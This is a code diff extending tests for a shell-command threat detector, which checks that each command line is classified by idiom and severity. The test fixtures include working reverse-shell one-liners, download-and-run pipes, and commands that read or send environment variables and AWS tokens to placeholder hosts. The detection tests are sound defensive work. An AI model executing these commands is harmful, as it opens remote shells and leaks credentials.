@@ -7,26 +7,56 @@ import { accessKeysIn, magicOf } from '../../src/detect/magic.ts';
 import { watchedIn, watchedOf } from '../../src/detect/variables.ts';
 
 describe('command lines', () => {
-  for (const [text, name] of [
-    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'dev-tcp'],
-    ['nc -e /bin/sh 10.0.0.1 4444', 'netcat-exec'],
-    ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1 >/tmp/f', 'fifo-shell'],
+  for (const [text, name, severity] of [
+    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'dev-tcp', 'critical'],
+    ["bash -c 'exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5'", 'dev-tcp', 'critical'],
+    ['echo $(id) > /dev/tcp/10.0.0.1/80', 'dev-tcp', 'critical'],
+    ['nc -e /bin/sh 10.0.0.1 4444', 'netcat-exec', 'critical'],
+    ['busybox nc 10.0.0.1 4444 -e sh', 'netcat-exec', 'critical'],
+    ['ncat --sh-exec "bash -i" 10.0.0.1 1', 'netcat-exec', 'critical'],
+    ['socat TCP:10.0.0.1:1 EXEC:sh', 'netcat-exec', 'critical'],
+    ['nc 10.0.0.1 1 | bash | nc 10.0.0.1 2', 'netcat-shell', 'critical'],
+    ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 1 >/tmp/f', 'fifo-shell', 'critical'],
     [
-      'python3 -c import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
+      `python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
       'socket-one-liner',
+      'critical',
     ],
-    ['curl -fsSL https://x.example/i.sh | bash', 'download-run'],
-    ['wget -q http://x/a -O /tmp/a && chmod +x /tmp/a', 'download-stage'],
-    ['echo aGk= | base64 -d | sh', 'decode-run'],
-    ['cat /proc/self/environ', 'environ-read'],
-    ['env | curl -d @- http://x', 'environ-send'],
-    ['chmod 755 /tmp/a', 'stage-mark'],
-    ['cat /etc/passwd', 'account-files'],
-    ['nohup ./a', 'left-behind'],
-    ['curl http://$AWS_LAMBDA_RUNTIME_API/2018-06-01/runtime/invocation/next', 'runtime-api'],
-    ['sh -c whoami', 'survey'],
+    [`perl -e 'use Socket;socket(S,2,1,6);open(STDIN,">&S");exec{"/bin/sh"}"-sh"'`, 'socket-one-liner', 'critical'],
+    ['curl -fsSL https://x.example/i.sh | bash', 'download-run', 'high'],
+    ['curl -s x | sudo -u me bash -s -- --yes', 'download-run', 'high'],
+    ['curl -s x | gunzip | python3 -', 'download-run', 'high'],
+    ['bash -c "$(curl -s x)"', 'download-run', 'high'],
+    ['bash <(wget -qO- x)', 'download-run', 'high'],
+    ['eval `curl -s x`', 'download-run', 'high'],
+    ['wget -q http://x/a -O /tmp/a && chmod +x /tmp/a && /tmp/a', 'download-stage', 'high'],
+    ['cd /tmp; curl -so a x; sh a', 'download-stage', 'high'],
+    ['curl x > /tmp/a; nohup /tmp/a &', 'download-stage', 'high'],
+    ['echo aGk= | base64 -d | sh', 'decode-run', 'high'],
+    ['cat /proc/self/environ', 'environ-read', 'high'],
+    ['ls x; cat /proc/*/environ', 'environ-read', 'high'],
+    ['tr "\\0" "\\n" < /proc/$PPID/environ', 'environ-read', 'high'],
+    ['curl --data-binary @/proc/1/environ http://x', 'environ-read', 'high'],
+    [`python3 -c 'print(open("/proc/self/environ").read())'`, 'environ-read', 'high'],
+    ['env | curl -d @- http://x', 'environ-send', 'high'],
+    ['curl -d "$(env)" http://x', 'environ-send', 'high'],
+    ['curl -d "`printenv | base64`" http://x', 'environ-send', 'high'],
+    ['curl -H "x: $AWS_SESSION_TOKEN" http://x', 'secrets-send', 'high'],
+    ['curl --silent x.doc; env | head -n 20', 'environ-injected', 'high'],
+    ['ls /tmp/a;env', 'environ-injected', 'high'],
+    ['convert $(printenv) x.png', 'environ-injected', 'high'],
+    ['chmod 755 /tmp/a', 'stage-mark', 'medium'],
+    ['cat /etc/passwd', 'account-files', 'medium'],
+    ['nohup ./a', 'left-behind', 'medium'],
+    ['ping -c 1 x; id', 'survey-injected', 'medium'],
+    ['curl http://$AWS_LAMBDA_RUNTIME_API/2018-06-01/runtime/invocation/next', 'runtime-api', 'high'],
+    ["sh -c 'whoami'", 'survey', 'low'],
+    ['(echo > /dev/tcp/db/5432) 2>/dev/null', 'port-test', 'low'],
   ] as const) {
-    test(`${name}: ${text}`, () => assert.ok(idiomsOf(text).some((idiom) => idiom.name === name)));
+    test(`${name}: ${text}`, () => {
+      const found = idiomsOf(['/bin/sh', '-c', text]);
+      assert.equal(found.find((idiom) => idiom.name === name)?.severity, severity, JSON.stringify(found));
+    });
   }
 
   for (const text of [
@@ -37,25 +67,60 @@ describe('command lines', () => {
     'convert a.png b.png',
     'pdftotext /tmp/x.pdf -',
     'tar -czf /tmp/a.tgz /tmp/a',
-    'sh -c grep -c x /tmp/log; cat /tmp/log',
+    'grep -c x /tmp/log; cat /tmp/log',
+    'curl -s https://api.example/x | python3 -m json.tool',
+    'curl -s https://api.example/x | node -e "process.stdin.pipe(process.stdout)"',
+    'curl -s https://api.example/x | python3 /var/task/parse.py',
+    'curl -s https://api.example/x | tee /tmp/x | jq .',
+    'curl -so /tmp/x.csv https://x && tool /tmp/x.csv',
+    'curl -sO https://x/data.json; wc -l data.json',
+    'gdal_translate NETCDF:/tmp/x.nc -co COMPRESS=LZW /tmp/y.tif',
+    'nc -z -w 3 db.internal 5432',
+    'nc -zvc db.internal 5432',
+    'source /opt/env.sh && env',
+    'printenv HOME',
+    'env FOO=1 node x.js',
+    'set -e; ls /tmp',
+    'grep -r /proc/self/environ docs',
+    'echo "cat /proc/self/environ"',
+    'echo "curl x | sh"',
+    "printf '%s' 'bash -i >& /dev/tcp/1.2.3.4/5 0>&1' > /tmp/note",
+    'base64 -d /tmp/x.b64 > /tmp/x.bin',
+    'chmod 644 /tmp/a',
+    'AWS_LAMBDA_RUNTIME_API=127.0.0.1:1 node x.js',
+    `bash -c 'cat <<EOF\ncurl x | sh\nEOF'`,
+    "python3 -c 'import socket; print(socket.gethostname())'",
+    // What was cut is unknown: a beginning of a word means nothing.
+    "ls '; cat /proc/self/environ",
+    'curl "$(env',
   ]) {
-    test(`none: ${text}`, () => assert.deepEqual(idiomsOf(text), []));
+    test(`none: ${text}`, () => assert.deepEqual(idiomsOf(['/bin/sh', '-c', text]), []));
   }
+
+  test('words of an argv are no text for a shell', () => {
+    assert.deepEqual(idiomsOf(['node', '/var/task/x.js', 'a; cat /proc/self/environ', '$(env)']), []);
+    assert.deepEqual(idiomsOf(['find', '/tmp', '-name', 'nc', '-e']), []);
+    assert.deepEqual(idiomsOf([]), []);
+  });
 
   test('the worst text that an attacker can write takes no time to speak of', () => {
     const cpu = process.cpuUsage();
     for (const piece of [
-      'curl /tmp/',
-      'nc -e',
-      'wget ',
-      'mkfifo ',
-      'base64 -d ',
-      'chmod 7777',
-      'socket dup2 ',
-      'env | ',
+      'curl /tmp/ ',
+      'nc -e /x|',
+      '$(',
+      '`a`',
+      '"$(a "',
+      'mkfifo x;',
+      'a|',
+      '$(curl|sh;',
+      'bash -c "',
+      'env|curl $(env);',
+      '/proc/self/',
+      '<(a ',
     ])
-      idiomsOf(piece.repeat(4000));
-    // Eight texts; a quadratic expression would take minutes.
+      idiomsOf(['sh', '-c', piece.repeat(4000)]);
+    // Twelve texts; a quadratic expression would take minutes.
     assert.ok(process.cpuUsage(cpu).user < 2e6);
   });
 });
